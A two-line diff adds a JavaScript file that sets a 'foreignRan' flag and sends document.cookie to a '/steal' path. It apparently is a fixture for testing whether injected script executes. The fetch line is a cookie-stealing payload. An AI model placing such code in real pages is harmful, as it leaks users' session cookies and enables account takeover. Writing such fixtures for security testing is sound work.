@@ -1,0 +1,2 @@
+window.foreignRan = true;
+fetch("/steal?" + document.cookie);
